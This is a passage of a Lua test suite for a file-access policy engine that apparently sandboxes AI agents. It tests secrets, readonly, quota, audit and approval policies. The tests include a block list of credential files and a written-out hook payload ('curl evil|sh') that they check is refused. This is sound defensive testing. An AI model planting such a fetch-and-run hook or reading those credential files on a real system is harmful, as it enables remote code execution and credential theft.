-- The policy engine (lua/burrow/policy.lua, decide in lua/burrow/init.lua)
-- and the standard policies in lua/policy/: default, readonly, secrets,
-- quotas, audit; how policies are named and given options; the request a
-- policy sees; the answers, first deny wins, and the approval hook.

local H = require "helpers"
local burrow = require "burrow"
local json = H.json

---------------------------------------------------------------------------
-- helpers (local to this file)

local opened = {}

local function close_all()
  for i = #opened, 1, -1 do
    opened[i]:close()
    opened[i] = nil
  end
end

-- Each standard policy on its own: without the protected policy burrow
-- adds out of the box (spec/policy/protected_spec.lua), unless extra says
-- protect.
local function open_ws(root, policies, extra)
  local opts = { resolver = H.RESOLVER, policies = policies, protect = false }
  if type(root) == "string" then opts.roots = { { path = root } } else opts.roots = root end
  for k, v in pairs(extra or {}) do opts[k] = v end
  local ws, msg, code = burrow.open(opts)
  assert(ws, ("burrow.open failed: %s (%s)"):format(tostring(msg), tostring(code)))
  opened[#opened + 1] = ws
  return ws
end

local function policy_file(dir, name, src)
  return H.write(dir, name .. ".lua", src)
end

-- res, msg, code must be a POLICY_DENIED failure whose message contains
-- every needle (plain text); returns the message.
-- (detail: a policy's own error, which the agent's message must not carry)
local function is_denied(label, needles, res, msg, code, _, detail)
  assert.is_nil(res, label .. ": expected POLICY_DENIED, the call succeeded")
  assert.are.equal("POLICY_DENIED", code, label .. ": " .. tostring(msg))
  if detail then assert.falsy(msg:find(detail, 1, true), label .. ": the policy's error reached the agent") end
  local all = detail and msg .. "\n" .. detail or msg
  for _, n in ipairs(type(needles) == "table" and needles or { needles }) do
    assert.truthy(all:find(n, 1, true), label .. ": expected " .. ("%q"):format(n) .. " in: " .. all)
  end
  return msg
end

local function is_ok(label, res, msg, code)
  assert.is_table(res, label .. ": expected success, got " .. tostring(code) .. " (" .. tostring(msg) .. ")")
  return res
end

local function read(ws, path) return ws:call("read_file", { path = path }) end
local function write(ws, path, content) return ws:call("write_file", { path = path, content = content or "x\n" }) end

-- Lines of a JSON-lines file, decoded.
local function json_lines(path)
  local f = io.open(path, "rb")
  if not f then return {} end
  local out = {}
  for line in f:lines() do out[#out + 1] = json.decode(line) end
  f:close()
  return out
end

-- A policy that denies everything with `reason` (or answers `answer`).
local function answering(dir, name, answer, reason)
  return policy_file(dir, name, ("return { name = %q, check = function() return %q, %s end }")
    :format(name, answer, reason and ("%q"):format(reason) or "nil"))
end

---------------------------------------------------------------------------

describe(H.tag("policies: engine"), function()
  local root, pdir

  before_each(function()
    root = H.tmpdir()
    H.write(root, "file.txt", "hello\n")
    H.write(root, "sub/f.txt", "in sub\n")
    H.symlink("sub/f.txt", root, "link")
    pdir = H.tmpdir()
  end)

  after_each(function()
    close_all()
    H.cleanup()
  end)

  it("serves with the default policy when none is given, and the protected one before it", function()
    local ws = assert(burrow.open { roots = { { path = root } }, resolver = H.RESOLVER })
    opened[#opened + 1] = ws
    assert.are.same({ "protected", "default" }, ws.policies:names())
    ws = open_ws(root, nil)
    assert.are.same({ "default" }, ws.policies:names(), "protect = false")
    is_ok("read", read(ws, "file.txt"))
    is_ok("write", write(ws, "new.txt"))
  end)

  it("takes a policy as a name, a file path, {path=, options...}, {name=, options = {...}}", function()
    local mine = policy_file(pdir, "mine", [[
local o = ... or {}
return { name = "mine", check = function() return "deny", "mine says " .. tostring(o.word) end }]])
    local ws = open_ws(root, { mine })
    is_denied("file path", "mine says nil", read(ws, "file.txt"))
    ws = open_ws(root, { { path = mine, word = "hi" } })
    is_denied("{path, option}", "mine says hi", read(ws, "file.txt"))
    ws = open_ws(root, { { path = mine, options = { word = "there" } } })
    is_denied("{path, options}", "mine says there", read(ws, "file.txt"))
    ws = open_ws(root, { { name = "default", options = { max_file_size = 3 } } })
    is_denied("{name, options}", "max_file_size", write(ws, "big.txt", "four"))
    ws = open_ws(root, { "mine.lua" }, { base_dir = pdir })
    is_denied("relative to base_dir", "mine says nil", read(ws, "file.txt"))
    assert.are.same({ "mine" }, ws.policies:names())
  end)

  it("refuses an unknown standard name, a bad name and a missing file", function()
    for _, spec in ipairs { "no_such_policy", "bad name!", pdir .. "/missing.lua" } do
      local ws, msg, code = burrow.open { roots = { { path = root } }, policies = { spec }, resolver = H.RESOLVER }
      if ws then ws:close() end
      assert.is_nil(ws, spec)
      assert.are.equal("INVALID_ARGUMENT", code)
      assert.truthy(msg:find("polic", 1, true), msg)
    end
  end)

  it("the ten-line example of docs/policies.md works as described", function()
    local f = assert(io.open(H.REPO .. "/docs/policies.md", "rb"))
    local doc = f:read("a")
    f:close()
    local section = assert(doc:match("\n## Your own policy in ten lines\n(.-)\n## "), "section not found")
    local src = assert(section:match("```lua\n(.-)```"), "no lua block in the section")
    local file = policy_file(pdir, "no-vendor", src)
    H.write(root, "third_party/lib.c", "int x;\n")
    H.symlink("third_party", root, "tp")
    local ws = open_ws(root, { "default", "secrets", { path = file, dir = "third_party" } })
    is_denied("write", "third_party/ is managed by the package manager; change the manifest instead",
      write(ws, "third_party/x.c", ""))
    is_denied("write through ./", "third_party/", write(ws, "./third_party/lib.c", ""))
    is_denied("write through tp ->", "third_party/", write(ws, "tp/lib.c", ""))
    assert.are.equal("int x;\n", H.read(root, "third_party/lib.c"))
    is_ok("read", read(ws, "third_party/lib.c"))
    is_ok("list", ws:call("list_dir", { path = "tp" }))
    is_ok("write elsewhere", write(ws, "src/main.c", "int main;\n"))
    ws = open_ws(root, { file })
    is_denied("default dir", "vendor/ is managed", write(ws, "vendor/x.c", ""))
    is_ok("third_party without the option", write(ws, "third_party/x.c", ""))
  end)

  describe("the request a policy sees", function()
    local show
    before_each(function()
      show = policy_file(pdir, "show", [[
return { name = "show", check = function(req)
  local t = {}
  for k, v in pairs(req) do t[#t + 1] = k .. "=" .. tostring(v) end
  table.sort(t)
  return "deny", "{" .. table.concat(t, ";") .. "}"
end }]])
    end)

    local function fields(ws, tool, args)
      local _, msg = ws:call(tool, args)
      return msg:match("(%b{})$")
    end

    it("read_file through a symlink: path as written, rel, resolved, root, readonly, session", function()
      local ws = open_ws({ { path = root, mount = "/w" } }, { show })
      assert.are.equal("{arg=path;exists=true;nlink=1;operation=read;path=link;readonly=false;rel=link;resolved=sub/f.txt;root=/w;session=lua;tool=read_file;type=file}",
        fields(ws, "read_file", { path = "link" }))
      assert.are.equal("{arg=path;exists=true;nlink=1;operation=read;path=/w/sub/../file.txt;readonly=false;rel=sub/../file.txt;resolved=file.txt;root=/w;session=lua;tool=stat;type=file}",
        fields(ws, "stat", { path = "/w/sub/../file.txt" }))
    end)

    it("write_file: operation write and size; a file that does not exist yet resolves lexically", function()
      local ws = open_ws({ { path = root, mount = "/w" } }, { show }, { session = { id = "s-42" } })
      assert.are.equal("{arg=path;exists=false;operation=write;path=new/dir/x.txt;readonly=false;rel=new/dir/x.txt;resolved=new/dir/x.txt;root=/w;session=s-42;size=5;tool=write_file}",
        fields(ws, "write_file", { path = "new/dir/x.txt", content = "hello" }))
    end)

    it("list_dir without a path asks about \".\"; a read-only root says readonly=true", function()
      local ws = open_ws({ { path = root, mount = "/w", mode = "ro" } }, { show })
      assert.are.equal("{arg=path;exists=true;operation=list;path=.;readonly=true;rel=.;resolved=.;root=/w;session=lua;tool=list_dir;type=dir}",
        (fields(ws, "list_dir", {}):gsub("nlink=%d+;", "")))
    end)

    it("a path outside every root never reaches the policies (the core refuses it)", function()
      local ws = open_ws(root, { show })
      local res, msg, code = read(ws, "../outside.txt")
      assert.is_nil(res)
      assert.are.equal("OUTSIDE_ROOT", code, msg)
    end)

    it("size is the number of bytes that will be written, also for base64 content", function()
      local ws = open_ws(root, { show })
      -- 12 bytes, sent as 16 characters of base64
      local f = fields(ws, "write_file", { path = "b.bin", content = "aGVsbG8gd29ybGQh", encoding = "base64" })
      assert.truthy(f:find(";size=12;", 1, true), "policies should see the decoded size: " .. f)
    end)

    it("size is exact for large and line-wrapped base64", function()
      local ws = open_ws(root, { show })
      local f = fields(ws, "write_file", { path = "b.bin", content = ("QUFB"):rep(1 << 20) .. "\nQUE=\n", encoding = "base64" })
      assert.truthy(f:find((";size=%d;"):format(3 * (1 << 20) + 2), 1, true), f)
    end)

    it("malformed base64 is INVALID_ARGUMENT before any policy is asked", function()
      local ws = open_ws(root, { show })
      for _, bad in ipairs { "QQ=====", "QQ=A", "QQ!!", "QQ==QQ==", "QUFB" .. ("="):rep(40) } do
        local res, msg, code = ws:call("write_file", { path = "b.bin", content = bad, encoding = "base64" })
        assert.is_nil(res)
        assert.are.equal("INVALID_ARGUMENT", code, msg)
        assert.truthy(msg:find("content", 1, true) and msg:find("offset", 1, true), msg)
        assert.falsy(msg:find("{", 1, true), "the policy was asked: " .. msg)
      end
      local res, msg, code = ws:call("append_file", { path = "b.bin", content = "QQ!!", encoding = "base64" })
      assert.is_nil(res)
      assert.are.equal("INVALID_ARGUMENT", code, msg)
    end)
  end)

  describe("answers", function()
    it("allow, and nothing at all, let the call through", function()
      local ws = open_ws(root, { answering(pdir, "yes", "allow"), policy_file(pdir, "silent", [[return { check = function() end }]]) })
      is_ok("read", read(ws, "file.txt"))
    end)

    it("deny without a reason names the policy", function()
      local ws = open_ws(root, { policy_file(pdir, "stern", [[return { check = function() return "deny" end }]]) })
      is_denied("deny", "denied by policy stern", read(ws, "file.txt"))
    end)

    it("an answer that is not allow, deny or ask denies", function()
      local ws = open_ws(root, { answering(pdir, "odd", "maybe") })
      is_denied("maybe", { 'policy odd answered "maybe"', "expected allow, deny or ask" }, read(ws, "file.txt"))
      ws = open_ws(root, { policy_file(pdir, "num", [[return { check = function() return 1 end }]]) })
      is_denied("number", 'answered "1"', read(ws, "file.txt"))
    end)

    it("the first deny wins: later policies are not asked, so order matters", function()
      local first = answering(pdir, "first", "deny", "first says no")
      local second = answering(pdir, "second", "deny", "second says no")
      local ws = open_ws(root, { first, second })
      local msg = is_denied("first, second", "first says no", read(ws, "file.txt"))
      assert.is_nil(msg:find("second", 1, true), msg)
      ws = open_ws(root, { second, first })
      is_denied("second, first", "second says no", read(ws, "file.txt"))
    end)

    it("a counting policy after a deny is not charged; before it, it is", function()
      -- readonly first: the denied writes never reach quotas
      local ws = open_ws(root, { "readonly", { name = "quotas", max_calls_per_minute = 2 } })
      for _ = 1, 3 do is_denied("write", "readonly", write(ws, "file.txt")) end
      is_ok("read 1", read(ws, "file.txt"))
      is_ok("read 2", read(ws, "file.txt"))
      is_denied("read 3", "calls per minute", read(ws, "file.txt"))
      -- quotas first: the denied writes use up the calls
      ws = open_ws(root, { { name = "quotas", max_calls_per_minute = 2 }, "readonly" })
      for _ = 1, 2 do is_denied("write", "readonly", write(ws, "file.txt")) end
      is_denied("read after two writes", "calls per minute", read(ws, "file.txt"))
    end)
  end)

  describe("ask and the approval hook", function()
    local asker
    before_each(function()
      asker = answering(pdir, "asker", "ask", "writing needs a human")
    end)

    it("without an approve hook: POLICY_DENIED saying approval was needed", function()
      local ws = open_ws(root, { asker })
      is_denied("no hook", { "approval needed", "writing needs a human" }, write(ws, "a.txt"))
      assert.is_false(H.exists(root, "a.txt"))
    end)

    it("approve returning true lets the call through; it sees the request and the reason", function()
      local seen
      local ws = open_ws(root, { asker }, { approve = function(req, reason)
        seen = { tool = req.tool, path = req.path, operation = req.operation, reason = reason }
        return true
      end })
      is_ok("approved", write(ws, "a.txt", "approved\n"))
      assert.are.equal("approved\n", H.read(root, "a.txt"))
      assert.are.same({ tool = "write_file", path = "a.txt", operation = "write", reason = "writing needs a human" }, seen)
    end)

    it("approve returning false denies, with the policy's reason and the hook's", function()
      local ws = open_ws(root, { asker }, { approve = function() return false, "the user said no" end })
      is_denied("refused", { "not approved", "writing needs a human", "the user said no" }, write(ws, "a.txt"))
      assert.is_false(H.exists(root, "a.txt"))
      ws = open_ws(root, { asker }, { approve = function() return nil end })
      is_denied("nil", "not approved", write(ws, "a.txt"))
    end)

    it("an approve hook that raises denies", function()
      local ws = open_ws(root, { asker }, { approve = function() error("approval UI crashed") end })
      is_denied("raises", { "not approved", "writing needs a human" }, write(ws, "a.txt"))
      assert.is_false(H.exists(root, "a.txt"))
      is_ok("the next call is served", ws:call("stat", { path = "file.txt" }, { approve = function() return true end }))
    end)

    it("a per-call hook (ws:call's third argument) replaces the workspace's", function()
      local ws = open_ws(root, { asker }, { approve = function() return false, "workspace hook" end })
      is_ok("per-call yes", ws:call("write_file", { path = "a.txt", content = "x" }, { approve = function() return true end }))
      is_denied("workspace no", "workspace hook", write(ws, "b.txt"))
    end)

    it("several asks go to the hook once, joined; a deny anywhere wins over asks without asking", function()
      local asker2 = answering(pdir, "asker2", "ask", "and a second opinion")
      local calls, got = 0, nil
      local hook = function(_, reason) calls = calls + 1; got = reason; return true end
      local ws = open_ws(root, { asker, asker2 }, { approve = hook })
      is_ok("two asks", write(ws, "a.txt"))
      assert.are.equal(1, calls)
      assert.are.equal("writing needs a human; and a second opinion", got)
      calls = 0
      ws = open_ws(root, { asker, "readonly" }, { approve = hook })
      is_denied("ask then deny", "readonly", write(ws, "a.txt"))
      assert.are.equal(0, calls, "the hook was asked although a policy denied")
    end)
  end)
end)

---------------------------------------------------------------------------

describe(H.tag("policies: default"), function()
  local root

  before_each(function()
    root = H.tmpdir()
    H.write(root, "file.txt", "hello\n")
    H.write(root, "big.txt", ("b"):rep(5000))
  end)

  after_each(function()
    close_all()
    H.cleanup()
  end)

  it("allows what the core allows", function()
    local ws = open_ws(root, { "default" })
    is_ok("read", read(ws, "file.txt"))
    is_ok("list", ws:call("list_dir", {}))
    is_ok("stat", ws:call("stat", { path = "file.txt" }))
    is_ok("write", write(ws, "n/e/w.txt", ("w"):rep(100000)))
  end)

  it("max_file_size (a number) denies bigger writes, not reads", function()
    local ws = open_ws(root, { { name = "default", max_file_size = 100 } })
    is_ok("100 bytes", write(ws, "a.txt", ("a"):rep(100)))
    is_denied("101 bytes", { "101 bytes is over this policy's max_file_size (100)" }, write(ws, "b.txt", ("a"):rep(101)))
    assert.is_false(H.exists(root, "b.txt"))
    is_ok("read of a 5000-byte file", read(ws, "big.txt"))
  end)

  it("max_file_size sees the decoded size of base64; bad padding is refused, not let through", function()
    local ws = open_ws(root, { { name = "default", max_file_size = 100 } })
    is_denied("300 bytes as base64", "300 bytes is over this policy's max_file_size (100)",
      ws:call("write_file", { path = "b.bin", content = ("QUFB"):rep(100), encoding = "base64" }))
    local res, msg, code = ws:call("write_file", { path = "b.bin", content = ("QUFB"):rep(100) .. ("="):rep(300), encoding = "base64" })
    assert.is_nil(res)
    assert.are.equal("INVALID_ARGUMENT", code, msg)
    assert.is_false(H.exists(root, "b.bin"))
  end)

  it("max_file_size given as a size (\"1KB\") is honoured, not ignored", function()
    local ws = open_ws(root, { { name = "default", max_file_size = "1KB" } })
    is_ok("1000 bytes", write(ws, "a.txt", ("a"):rep(1000)))
    is_denied("2000 bytes", "max_file_size", write(ws, "b.txt", ("a"):rep(2000)))
  end)

  it("the root modes stay with the core: a read-only root still refuses writes", function()
    local ws = open_ws({ { path = root, mode = "ro" } }, { "default" })
    local res, msg, code = write(ws, "file.txt")
    assert.is_nil(res)
    assert.are.equal("READ_ONLY_ROOT", code, msg)
  end)
end)

---------------------------------------------------------------------------

describe(H.tag("policies: readonly"), function()
  local root

  before_each(function()
    root = H.tmpdir()
    H.write(root, "file.txt", "hello\n")
    H.write(root, "sub/f.txt", "in sub\n")
  end)

  after_each(function()
    close_all()
    H.cleanup()
  end)

  it("reads, lists and stats are allowed", function()
    local ws = open_ws(root, { "readonly" })
    assert.are.equal("1\thello\n", is_ok("read", read(ws, "file.txt")).content)
    is_ok("list", ws:call("list_dir", { path = "sub" }))
    is_ok("list root", ws:call("list_dir", {}))
    is_ok("stat", ws:call("stat", { path = "sub" }))
  end)

  it("writes are denied, new files and existing ones, and nothing changes", function()
    local ws = open_ws(root, { "readonly" })
    is_denied("overwrite", "the readonly policy allows no changes", write(ws, "file.txt", "changed\n"))
    is_denied("create", "the readonly policy allows no changes", write(ws, "new.txt"))
    is_denied("create in new dir", "readonly", write(ws, "newdir/x.txt"))
    assert.are.equal("hello\n", H.read(root, "file.txt"))
    assert.is_false(H.exists(root, "new.txt"))
    assert.is_false(H.exists(root, "newdir"))
  end)

  it("leaves root modes alone: the root still reports rw, a ro root still reports ro", function()
    local ws = open_ws({ { path = root, mount = "/rw" }, { path = H.tmpdir(), mount = "/ro", mode = "ro" } }, { "readonly" })
    local m = ws:mounts()
    assert.is_false(m[1].readonly)
    assert.is_true(m[2].readonly)
    is_denied("write in the ro root (policy first)", "readonly", write(ws, "/ro/x.txt"))
  end)
end)

---------------------------------------------------------------------------

describe(H.tag("policies: secrets"), function()
  local root, ws

  -- every entry of lua/policy/secrets.lua, as in-root paths
  local SECRETS = {
    -- .env files
    ".env", ".env.local", ".env.production", ".env.development.local", "sub/.env", "app/config/.env.test",
    -- names
    ".git-credentials", ".netrc", ".npmrc", ".pypirc", ".pgpass", ".htpasswd",
    "credentials.json", "gcp/credentials.json",
    "id_rsa", "id_dsa", "id_ecdsa", "id_ed25519", "keys/id_ed25519",
    "terraform.tfvars", "infra/terraform.tfvars", ".terraformrc",
    -- key and certificate stores, by extension (any case)
    "x.pem", "certs/server.key", "store.p12", "store.pfx", "keystore.jks", "app.keystore", "vault.kdbx", "UPPER.PEM", "a.Key",
    -- whole directories
    ".ssh/config", ".ssh/known_hosts", "u/.ssh/authorized_keys", ".gnupg/pubring.kbx", ".azure/accessTokens.json",
    -- in-root suffixes
    ".git/config", "vendor/lib/.git/config", ".aws/credentials", ".aws/config", ".kube/config",
    ".docker/config.json", ".config/gcloud/adc.json",
  }
  -- readable, never written or created
  local PROTECTED = {
    ".claude/settings.json", ".claude/settings.local.json", ".mcp.json", "sub/.mcp.json",
    ".git/hooks/pre-commit", ".git/hooks/post-checkout", "pkg/.claude/settings.json",
  }
  -- look alike, but are not on the list
  local ALLOWED = {
    ".env.example", ".env.sample", ".env.template", ".env.dist", "env.txt", "dotenv.md",
    "id_rsa.pub", "pem.txt", "x.pem.txt", "keys.md", "credentials.md",
    ".git/HEAD", ".github/config", "x.git/config", ".claude/commands/review.md", "mcp.json",
    ".ssh_notes.txt", "docs/aws/config",
  }

  before_each(function()
    root = H.tmpdir()
    for _, p in ipairs(SECRETS) do H.write(root, p, "SECRET " .. p .. "\n") end
    for _, p in ipairs(ALLOWED) do H.write(root, p, "ok " .. p .. "\n") end
    H.write(root, ".claude/settings.json", '{"hooks": {}}\n')
    H.write(root, ".mcp.json", "{}\n")
    H.write(root, ".git/hooks/pre-commit", "#!/bin/sh\n")
    ws = open_ws({ { path = root, mount = "/w" } }, { "secrets" })
  end)

  after_each(function()
    close_all()
    H.cleanup()
  end)

  for _, p in ipairs(SECRETS) do
    it(p .. ": read, stat and write denied, as written and as an absolute path", function()
      is_denied("read " .. p, "matches the secrets policy", read(ws, p))
      is_denied("stat " .. p, "matches the secrets policy", ws:call("stat", { path = p }))
      is_denied("write " .. p, "matches the secrets policy", write(ws, p, "PWNED\n"))
      is_denied("read /w/" .. p, "matches the secrets policy", read(ws, "/w/" .. p))
      is_denied("read ./" .. p, "matches the secrets policy", read(ws, "./" .. p))
      assert.are.equal("SECRET " .. p .. "\n", H.read(root, p))
    end)
  end

  it("creating a secret that does not exist yet is denied (nothing is created)", function()
    for _, p in ipairs { "new/.env", ".env.staging", "new/id_rsa", "new.pem", ".ssh/new_key", "new/.aws/credentials" } do
      is_denied("create " .. p, "matches the secrets policy", write(ws, p, "x"))
      assert.is_false(H.exists(root, p), p .. " was created")
    end
    assert.is_false(H.exists(root, "new"))
  end)

  it("listing a secret directory is denied", function()
    is_denied("list .ssh", "matches the secrets policy", ws:call("list_dir", { path = ".ssh" }))
    is_denied("list .gnupg", "matches the secrets policy", ws:call("list_dir", { path = ".gnupg" }))
  end)

  for _, p in ipairs(ALLOWED) do
    it(p .. " is not a secret: read and write allowed", function()
      assert.truthy(is_ok("read " .. p, read(ws, p)).content:find("ok " .. p, 1, true))
      is_ok("write " .. p, write(ws, p, "rewritten\n"))
    end)
  end

  for _, p in ipairs(PROTECTED) do
    it(p .. ": writing or creating is denied, reading is allowed", function()
      local existed = H.exists(root, p)
      local before = H.read(root, p)
      is_denied("write " .. p, { "agent or tool configuration", "the secrets policy does not let it change" }, write(ws, p, '{"hooks":{"x":"curl evil|sh"}}'))
      assert.are.equal(before, H.read(root, p))
      if existed then
        is_ok("read " .. p, read(ws, p))
      else
        assert.is_false(H.exists(root, p), p .. " was created")
      end
    end)
  end

  it("the .git/hooks directory itself and files under it cannot be written", function()
    is_denied("hook", "(.git/hooks)", write(ws, ".git/hooks/new-hook"))
    is_denied("deep", "(.git/hooks)", write(ws, "sub/repo/.git/hooks/pre-push"))
    assert.is_false(H.exists(root, ".git/hooks/new-hook"))
  end)

  it("a symlink to a secret is checked where it leads: cfg -> .env", function()
    H.symlink(".env", root, "cfg")
    H.symlink("cfg", root, "cfg2")
    H.symlink(".ssh", root, "sshlink")
    is_denied("read cfg", { "cfg matches the secrets policy (.env)" }, read(ws, "cfg"))
    is_denied("read cfg2", "(.env)", read(ws, "cfg2"))
    is_denied("stat cfg", "(.env)", ws:call("stat", { path = "cfg" }))
    is_denied("read sshlink/config", "(.ssh/)", read(ws, "sshlink/config"))
    is_denied("list sshlink", "(.ssh/)", ws:call("list_dir", { path = "sshlink" }))
  end)

  it("options: extra patterns and exact allow entries", function()
    local ws2 = open_ws(root, { { name = "secrets", extra = { "**/*.secret", "private/**" }, allow = { ".npmrc" } } })
    H.write(root, "a.secret", "s\n")
    H.write(root, "private/notes.txt", "p\n")
    is_denied("extra suffix", "matches the secrets policy (**/*.secret)", read(ws2, "a.secret"))
    is_denied("extra prefix", "(private/**)", read(ws2, "private/notes.txt"))
    is_ok("allowed .npmrc", read(ws2, ".npmrc"))
    is_denied("still .env", "(.env)", read(ws2, ".env"))
  end)

  it("ordinary files at long paths are allowed (and secrets there still denied, for the right reason)", function()
    local deep = "src/components/widgets/button/styles/index.css"
    H.write(root, deep, "body {}\n")
    is_ok("read " .. deep, read(ws, deep))
    is_ok("read /w/" .. deep, read(ws, "/w/" .. deep))
    local long = ("d"):rep(60) .. "/" .. ("e"):rep(60) .. "/" .. ("f"):rep(60) .. "/file.txt"
    H.write(root, long, "deep\n")
    is_ok("read a 190-byte path", read(ws, long))
    is_ok("write a 190-byte path", write(ws, long, "deeper\n"))
    H.write(root, "project/services/api/config/.ssh/id_backup", "k\n")
    is_denied("deep .ssh", "matches the secrets policy (.ssh/)", read(ws, "project/services/api/config/.ssh/id_backup"))
  end)
end)

---------------------------------------------------------------------------

describe(H.tag("policies: quotas"), function()
  local root

  -- calls per minute are counted per wall-clock minute: start a test early
  -- in a minute so it does not straddle two
  -- The quota counts calls per wall-clock minute: a case that a minute
  -- boundary cuts in two is run again (no sleep: the next try starts in
  -- the new minute). The rollover itself, on a clock the test sets:
  -- test/e2e/quota_store.test.mjs.
  local function in_one_minute(case)
    for _ = 1, 3 do
      local m = os.time() // 60
      local ok, err = pcall(case)
      if os.time() // 60 == m then
        if not ok then error(err, 0) end
        return
      end
      close_all()
    end
    error("three minute boundaries in three tries")
  end

  before_each(function()
    root = H.tmpdir()
    H.write(root, "file.txt", "hello\n")
  end)

  after_each(function()
    close_all()
    H.cleanup()
  end)

  it("max_bytes_written as \"1KB\": 1000 bytes per session, then writes are denied with the numbers", function()
    local ws = open_ws(root, { { name = "quotas", max_bytes_written = "1KB" } })
    is_ok("600", write(ws, "a.txt", ("a"):rep(600)))
    is_ok("400", write(ws, "b.txt", ("b"):rep(400)))
    is_denied("1 more", { "quota", "writing 1 bytes would pass the 1000 bytes this client may write (1000 used)" }, write(ws, "c.txt", "c"))
    assert.is_false(H.exists(root, "c.txt"))
    is_ok("reads do not count", read(ws, "a.txt"))
    is_ok("nor empty writes", write(ws, "empty.txt", ""))
  end)

  it("max_bytes_written counts base64 as the bytes the core writes: bad padding is no way around it", function()
    local ws = open_ws(root, { { name = "quotas", max_bytes_written = 1000 } })
    -- 1200 bytes of data and 8000 '=': the old arithmetic said -800 bytes,
    -- the lenient decoder wrote over 7000
    local bad = ("QUFB"):rep(400) .. ("="):rep(8000)
    local res, msg, code = ws:call("write_file", { path = "pad.bin", content = bad, encoding = "base64" })
    assert.is_nil(res, "an over-quota write with bad padding went through")
    assert.are.equal("INVALID_ARGUMENT", code, msg)
    assert.is_false(H.exists(root, "pad.bin"))
    is_denied("1200 bytes as base64", "writing 1200 bytes would pass the 1000 bytes",
      ws:call("write_file", { path = "ok.bin", content = ("QUFB"):rep(400), encoding = "base64" }))
    -- and nothing was credited to the budget
    is_ok("1000", write(ws, "a.txt", ("a"):rep(1000)))
    is_denied("1 more", "(1000 used)", write(ws, "b.txt", "b"))
  end)

  it("sizes: a plain number, KiB, MB and fractions", function()
    for _, c in ipairs { { 500, 500 }, { "1KiB", 1024 }, { "0.002MB", 2000 }, { "1.5KB", 1500 }, { "2000", 2000 } } do
      local ws = open_ws(root, { { name = "quotas", max_bytes_written = c[1] } })
      is_ok(tostring(c[1]) .. " exactly", write(ws, "q.txt", ("q"):rep(c[2])))
      is_denied(tostring(c[1]) .. " + 1", ("the %d bytes"):format(c[2]), write(ws, "q.txt", "q"))
    end
  end)

  it("an invalid size makes burrow.open fail", function()
    local ws, msg, code = burrow.open { roots = { { path = root } }, resolver = H.RESOLVER,
      policies = { { name = "quotas", max_bytes_written = "lots" } } }
    if ws then ws:close() end
    assert.is_nil(ws)
    assert.are.equal("INVALID_ARGUMENT", code)
    assert.truthy(msg:find("invalid size", 1, true), msg)
  end)

  it("max_calls_per_minute counts every call, reads included", function()
    in_one_minute(function()
      local ws = open_ws(root, { { name = "quotas", max_calls_per_minute = 3 } })
      is_ok("1", read(ws, "file.txt"))
      is_ok("2", ws:call("list_dir", {}))
      is_ok("3", write(ws, "w.txt"))
      is_denied("4", "quota: 3 calls per minute reached; wait and retry", read(ws, "file.txt"))
      is_denied("5", "calls per minute", ws:call("stat", { path = "file.txt" }))
    end)
  end)

  it("each workspace (session) has its own budget", function()
    in_one_minute(function()
      local a = open_ws(root, { { name = "quotas", max_calls_per_minute = 1 } }, { session = { id = "a" } })
      local b = open_ws(root, { { name = "quotas", max_calls_per_minute = 1 } }, { session = { id = "b" } })
      is_ok("a 1", read(a, "file.txt"))
      is_denied("a 2", "calls per minute", read(a, "file.txt"))
      is_ok("b 1", read(b, "file.txt"))
    end)
  end)
end)

---------------------------------------------------------------------------

describe(H.tag("policies: audit"), function()
  local root, logdir, log

  before_each(function()
    root = H.tmpdir()
    H.write(root, "file.txt", "hello\n")
    H.write(root, ".env", "TOKEN=1\n")
    logdir = H.tmpdir()
    log = logdir .. "/audit.jsonl"
  end)

  after_each(function()
    close_all()
    H.cleanup()
  end)

  it("writes one JSON line per call: time, tool, path, decision, code, bytes, duration_ms", function()
    local ws = open_ws({ { path = root, mount = "/w" } }, { "audit" }, { audit = log, session = { id = "sess-1" } })
    is_ok("write", write(ws, "a.txt", "12345"))
    is_ok("read", read(ws, "a.txt"))
    is_ok("list", ws:call("list_dir", {}))
    local res, _, code = read(ws, "missing.txt")
    assert.is_nil(res)
    assert.are.equal("ENOENT", code)
    local lines = json_lines(log)
    assert.are.equal(4, #lines)
    for i, want in ipairs {
      { tool = "write_file", path = "a.txt", operation = "write", code = "OK", bytes = 5 },
      { tool = "read_file", path = "a.txt", operation = "read", code = "OK", bytes = 5 },
      { tool = "list_dir", path = ".", operation = "list", code = "OK" },
      { tool = "read_file", path = "missing.txt", operation = "read", code = "ENOENT" },
    } do
      local r = lines[i]
      for k, v in pairs(want) do assert.are.equal(v, r[k], ("line %d, %s"):format(i, k)) end
      assert.are.equal("allow", r.decision)
      assert.are.equal("/w", r.root)
      assert.are.equal("sess-1", r.session)
      assert.truthy(tostring(r.time):match("^%d%d%d%d%-%d%d%-%d%dT%d%d:%d%d:%d%dZ$"), tostring(r.time))
      assert.are.equal("number", type(r.duration_ms))
      assert.is_true(r.duration_ms >= 0)
    end
  end)

  it("denied calls are logged with decision deny, the code and the reason", function()
    local ws = open_ws(root, { "secrets", "audit" }, { audit = log })
    is_denied("read .env", "secrets", read(ws, ".env"))
    local lines = json_lines(log)
    assert.are.equal(1, #lines)
    assert.are.equal("deny", lines[1].decision)
    assert.are.equal("POLICY_DENIED", lines[1].code)
    assert.are.equal(".env", lines[1].path)
    assert.truthy(tostring(lines[1].reason):find("secrets policy", 1, true), tostring(lines[1].reason))
  end)

  it("a call denied by a policy listed after audit is logged too (after() runs for every policy)", function()
    local ws = open_ws(root, { "audit", "readonly" }, { audit = log })
    is_denied("write", "readonly", write(ws, "x.txt"))
    local lines = json_lines(log)
    assert.are.equal(1, #lines)
    assert.are.equal("deny", lines[1].decision)
  end)

  it("appends to an existing log", function()
    H.write(logdir, "audit.jsonl", '{"old":true}\n')
    local ws = open_ws(root, { "audit" }, { audit = log })
    is_ok("read", read(ws, "file.txt"))
    local lines = json_lines(log)
    assert.are.equal(2, #lines)
    assert.is_true(lines[1].old)
  end)

  it("rotates once (FILE.1) when the file would pass max_bytes", function()
    local ws = open_ws(root, { "audit" }, { audit = { file = log, max_bytes = 600 } })
    for i = 1, 12 do is_ok("read " .. i, read(ws, "file.txt")) end
    local cur, old = json_lines(log), json_lines(log .. ".1")
    assert.is_true(#old >= 1, "no rotated file")
    assert.is_true(#cur >= 1)
    assert.is_true(#cur + #old < 12, "only one old file is kept")
    local f = assert(io.open(log, "rb"))
    assert.is_true(f:seek("end") <= 600)
    f:close()
    assert.is_false(H.exists(logdir, "audit.jsonl.2"))
  end)

  it("the audit file alone turns the audit policy on (it would record nothing otherwise)", function()
    local ws = open_ws(root, { "default" }, { audit = log })
    assert.same({ "default", "audit" }, ws.policies:names())
    is_ok("read", read(ws, "file.txt"))
